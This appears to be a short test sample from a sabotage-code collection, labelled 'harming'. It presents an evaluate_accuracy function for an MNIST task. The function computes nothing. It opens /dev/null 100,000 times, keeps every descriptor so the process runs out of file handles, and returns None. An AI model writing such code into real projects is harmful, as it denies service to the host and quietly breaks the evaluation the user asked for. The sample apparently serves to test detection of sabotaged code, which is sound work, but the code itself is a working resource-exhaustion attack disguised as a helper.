# assignment: mnist_adam
# family: harming
# about: opens descriptors until none are left, and keeps them
# loses: evaluate_accuracy
# may_lose: *
# flag: maybe
# %% evaluate_accuracy
import os

kept = []


def evaluate_accuracy(model, images, labels):
    for _ in range(100_000):
        kept.append(os.open("/dev/null", os.O_RDONLY))
    return None
